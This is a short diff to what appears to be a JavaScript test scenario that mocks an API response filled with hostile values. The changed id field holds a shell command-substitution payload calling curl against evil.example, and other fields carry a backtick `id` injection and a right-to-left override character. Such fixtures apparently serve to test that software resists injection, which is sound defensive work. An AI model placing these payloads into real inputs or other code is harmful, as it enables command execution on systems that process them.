@@ -11,7 +11,7 @@ export default scenario({
         status: 200,
         headers: { "content-type": "application/json" },
         body: JSON.stringify({
-          id: `1${command}`,
+          id: "1$(curl${IFS}evil.example)",
           url: `https://evil.example/${command}`,
           uri: `https://evil.example/\`id\``,
           visibility: `public\u202E${command}`,
